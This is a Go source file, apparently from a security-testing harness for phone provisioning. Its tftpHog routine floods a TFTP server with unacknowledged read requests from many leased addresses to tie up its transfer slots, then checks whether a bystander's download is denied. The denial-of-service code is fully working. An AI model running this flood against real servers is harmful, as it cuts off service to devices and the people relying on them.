package phone

import (
	"context"
	"encoding/binary"
	"fmt"
	"net"
	"net/url"
	"sync"
	"time"
)

// tftpHog floods, then asks as a bystander from its leased address.
func (a *Attacker) tftpHog(ctx context.Context, r *Attack, p *Profile, l *Lease) error {
	srcs, err := a.addSources(l)
	if err != nil {
		return err
	}
	u, err := url.Parse(a.TFTP)
	if err != nil {
		return err
	}
	server, err := net.ResolveUDPAddr("udp4", net.JoinHostPort(u.Hostname(), "69"))
	if err != nil {
		return err
	}
	file := commonFile(p, a.MAC)
	rrq := binary.BigEndian.AppendUint16(nil, 1)
	rrq = append(append(append(rrq, file...), 0), "octet\x00"...)
	var socks []*net.UDPConn
	defer func() {
		for _, c := range socks {
			c.Close()
		}
	}()
	// In rounds, one request per address each, so the server's socket
	// buffer takes them all: what is dropped holds nothing.
	for range tftpHogPerSource {
		for _, ip := range srcs {
			c, err := net.ListenUDP("udp4", &net.UDPAddr{IP: ip.AsSlice()})
			if err != nil {
				return err
			}
			socks = append(socks, c)
			c.WriteToUDP(rrq, server)
		}
		time.Sleep(50 * time.Millisecond)
	}
	held, refused := countFirstAnswers(socks)
	r.Flood = fmt.Sprintf("%d TFTP requests from %d addresses, never acknowledged: %d got a first block, %d an error", len(socks), len(srcs), held, refused)
	a.log().Info("flooded", "flood", r.Flood)
	c := a.client(p, "")
	if !probe(ctx, func() bool { _, ok := c.Get(ctx, a.TFTP+file); return ok }) {
		r.Denied = append(r.Denied, fmt.Sprintf("TFTP to a bystander for %v while it held %d transfers", hogProbeFor, held))
	}
	r.Requests = append(r.Requests, c.Log...)
	return nil
}

// countFirstAnswers reads each socket's first packet: DATA (op 3) means
// the server holds a transfer for it, anything else that it refused.
func countFirstAnswers(socks []*net.UDPConn) (held, refused int) {
	var mu sync.Mutex
	var wg sync.WaitGroup
	for _, c := range socks {
		wg.Go(func() {
			buf := make([]byte, 1024)
			c.SetReadDeadline(time.Now().Add(2 * time.Second))
			n, _, err := c.ReadFromUDP(buf)
			mu.Lock()
			defer mu.Unlock()
			switch {
			case err == nil && n >= 2 && binary.BigEndian.Uint16(buf) == 3:
				held++
			case err == nil:
				refused++
			}
		})
	}
	wg.Wait()
	return held, refused
}
